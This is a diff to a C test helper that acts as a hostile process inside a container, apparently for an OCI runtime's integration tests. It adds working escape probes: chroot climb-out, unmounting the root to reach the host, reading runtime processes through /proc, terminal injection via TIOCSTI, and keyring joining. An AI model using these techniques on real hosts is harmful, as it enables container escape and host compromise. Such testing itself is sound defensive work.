@@ -1,15 +1,18 @@
 /*
  * What a hostile program in a container tries, for tests/integration/test_oci_attack_*.py.
  *
- *	hostile exe COUNT		find so many processes of the runtime, write to their
- *program hostile peek ROUNDS PATH	find new processes, look for PATH of the host through them
+ *	hostile exe COUNT		find processes of the runtime, write to their program
+ *	hostile peek ROUNDS PATH	find new processes, look for PATH of the host through them
+ *	hostile enter ROUNDS		find new processes that let themselves be looked into
  *	hostile swap A B [A B]...	exchange two names for ever, one pair after the other
  *	hostile calls			one line for each system call that should be refused
- *	hostile inject			put characters into the terminal on stdin
+ *	hostile inject			put characters into the terminal on stdin, open ours
+ *	hostile escape PATH		look for PATH of the host outside of our root, and under it
  *	hostile handles PATH		open_by_handle_at() from PATH to the top of its file system
  *	hostile ring NAME		take a keyring's name and open it to everybody; stay
  *	hostile ids		say as whom it runs, really and effectively
  *	hostile session		say which session keyring this is
+ *	hostile joined COMMAND...	with a session keyring, whoever has made it
  *	hostile release		mount a version 1 control group, name a release agent
  *
  * Prints REACHED, WROTE or the like in capitals for what must not happen.  Static: runs anywhere.
@@ -152,6 +155,21 @@ static void peek_process(int pid, const void *data)
 		closedir(fds);
 }
 
+/* Who may read this link may trace the process, too: of a runtime that is nobody's right. */
+static void enter_process(int pid)
+{
+	char path[64], target[256];
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	n = readlink(path, target, sizeof(target) - 1);
+	if (n <= 0)
+		return;
+	target[n] = '\0';
+	if (strcmp(target, "/bin/busybox") != 0)
+		say("ENTERED", target);
+}
+
 /* Only processes that were not there at the beginning. */
 static char known[PIDS_MAX];
 
@@ -164,8 +182,12 @@ static void know(int pid, const void *data)
 
 static void peek_new(int pid, const void *data)
 {
-	if (pid < PIDS_MAX && !known[pid])
+	if (pid >= PIDS_MAX || known[pid])
+		return;
+	if (data)
 		peek_process(pid, data);
+	else
+		enter_process(pid);
 }
 
 /* ---- calls ---- */
@@ -233,11 +255,71 @@ static void try_calls(void)
 		       : "ALLOWED");
 }
 
+/* ---- escape ---- */
+
+/* ".." ends at the root only, and after chroot() this folder is not below it. */
+static void climb_out(const char *marker)
+{
+	int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	struct stat st;
+
+	if ((mkdir("/tmp/below", 0700) < 0 && errno != EEXIST) || top < 0 ||
+	    chroot("/tmp/below") < 0 || fchdir(top) < 0) {
+		say("chroot", strerrorname_np(errno));
+		return;
+	}
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			break;
+	if (chroot(".") == 0 && stat(marker, &st) == 0)
+		say("REACHED", "by climbing out");
+	say("climbed", "");
+}
+
+/* Takes the root away, and joins its own mount namespace again: that leads to what lay under it. */
+static void dig_down(const char *marker)
+{
+	struct stat st;
+	int own;
+
+	/* A copy, of everything that is in it: the container itself goes on. */
+	if (unshare(CLONE_NEWNS) < 0) {
+		say("unshare", strerrorname_np(errno));
+		return;
+	}
+	own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
+	for (int i = 0; i < 8; i++) {
+		if (umount2("/", MNT_DETACH) < 0 || setns(own, CLONE_NEWNS) < 0)
+			break;
+		if (stat(marker, &st) == 0)
+			say("REACHED", "under the root");
+	}
+	say("dug", strerrorname_np(errno));
+}
+
+static void escape(const char *marker)
+{
+	static void (*const ways[])(const char *) = { climb_out, dig_down };
+
+	for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
+		pid_t pid = fork();
+
+		if (pid == 0) {
+			ways[i](marker);
+			_exit(0);
+		}
+		waitpid(pid, NULL, 0);
+	}
+}
+
 /* ---- the rest ---- */
 
 static void inject(void)
 {
 	char subcode = 3; /* TIOCLINUX: paste the selection */
+	int own = open("/dev/tty", O_RDWR | O_CLOEXEC);
+
+	printf("/dev/tty: %s\n", own >= 0 ? "OPENED" : strerrorname_np(errno));
 
 	printf("TIOCSTI: %s\n", ioctl(0, TIOCSTI, "x") == 0 ? "INJECTED" : strerrorname_np(errno));
 	printf("TIOCLINUX: %s\n",
@@ -325,6 +407,13 @@ int main(int argc, char **argv)
 		say("ready", "");
 		for (int i = 0; i < rounds; i++)
 			each_process(peek_new, argv[3]);
+	} else if (strcmp(verb, "enter") == 0) {
+		each_process(know, NULL);
+		say("ready", "");
+		for (int i = 0; i < rounds; i++)
+			each_process(peek_new, NULL);
+	} else if (strcmp(verb, "escape") == 0 && argc == 3) {
+		escape(argv[2]);
 	} else if (strcmp(verb, "swap") == 0 && argc >= 4) {
 		return swap(argv + 2);
 	} else if (strcmp(verb, "calls") == 0) {
@@ -339,6 +428,10 @@ int main(int argc, char **argv)
 		printf("%d %d\n", (int) getuid(), (int) geteuid());
 	} else if (strcmp(verb, "session") == 0) {
 		show_session();
+	} else if (strcmp(verb, "joined") == 0 && argc > 2) {
+		(void) syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
+		execv(argv[2], argv + 2);
+		return 127;
 	} else if (strcmp(verb, "release") == 0) {
 		release_agent();
 	} else {
